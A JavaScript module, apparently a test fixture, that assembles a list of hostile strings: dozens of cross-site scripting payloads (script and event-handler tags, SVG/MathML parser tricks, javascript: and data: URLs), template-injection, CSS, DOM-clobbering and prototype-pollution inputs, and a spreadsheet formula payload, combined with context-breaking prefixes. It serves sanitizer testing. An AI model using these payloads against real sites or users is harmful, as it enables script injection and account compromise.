// Texts that run a script wherever they are taken for markup, a style, an address, a template or a name: each
// kind in the places that it breaks out of.

const CALL = 'pwn()';

/** Elements that run something as soon as they are in a page. */
const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<img src=x onerror=${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}></svg>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form><button formaction="javascript:${CALL}" autofocus>x`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<attention-playground caption="<img src=x onerror=${CALL}>"></attention-playground>`,
];

/** What ends the place that a text stands in, before it. */
const BREAKS = ['', '">', "'>", '-->', '</style>', '</title></textarea>', '\u202e'];

const OTHERS = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'javascript:%0a',
    'vbscript:',
  ].map((scheme) => `${scheme}${CALL}`),
  `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,${btoa(`<script>parent.${CALL}</script>`)}`,
  `https://x.y/?${CALL}#javascript:${CALL}`,
  `//x.y/${CALL}`,
  `\${${CALL}}`,
  `{{constructor.constructor("${CALL}")()}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `';${CALL};//`,
  `"+${CALL}+"`,
  `\`;${CALL};\``,
  `expression(${CALL})`,
  `url("javascript:${CALL}")`,
  `;}*{background:url(javascript:${CALL})}`,
  '__proto__',
  'constructor',
  'toString',
  '<form><input name=attributes></form>',
  '<img name=documentElement>',
  '<a id=location href=//x.y></a>',
  '\u0000<img src=x>',
  '\ud800',
  '%3Cimg%20src%3Dx%20onerror%3Dpwn()%3E',
  '&lt;img src=x onerror=pwn()&gt;',
  '=HYPERLINK("javascript:pwn()")',
];

export const hostileTexts = [
  ...BREAKS.flatMap((end) => MARKUP.map((text) => end + text)),
  ...OTHERS,
];
